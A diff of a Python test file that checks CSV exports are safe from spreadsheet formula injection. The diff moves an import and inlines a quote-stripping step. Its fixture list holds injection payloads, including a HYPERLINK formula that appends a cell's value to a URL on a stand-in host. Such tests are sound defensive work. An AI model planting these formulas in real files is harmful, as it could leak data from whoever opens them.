@@ -14,7 +14,6 @@ from pathlib import Path
 
 import pypdfium2 as pdfium
 
-from bot.evidence.csv_cells import plain, safe_cell
 from bot.evidence.debrief.pack_folder import build_pack
 from bot.evidence.duty_record import export_stewards
 from bot.evidence.export import MANIFEST, export_fixture, file_sha, signed_part
@@ -29,6 +28,8 @@ FORMULA = ('=HYPERLINK("http://x.invalid/?"&A1,"Steward")', "+SUM(1,2)", "-2+3",
 
 
 def test_a_formula_cell_is_written_as_text_and_read_back_exactly() -> None:
+    from bot.evidence.csv_cells import plain, safe_cell
+
     for value in (*FORMULA, "'=already quoted", "'", "plain", "", "12", "a=b"):
         cell = safe_cell(value)
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), value
@@ -59,7 +60,7 @@ async def test_no_csv_of_the_pack_or_the_stewards_record_holds_a_formula(
                     for cell in row:
                         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), \
                             (path.name, cell)
-                        seen.add(plain(cell))
+                        seen.add(cell[1:] if cell.startswith("'") else cell)
             assert manifest["files"][path.name] == file_sha(path)  # signed as written
     assert name in seen
     assert "-2 stewards short at gate F" in seen
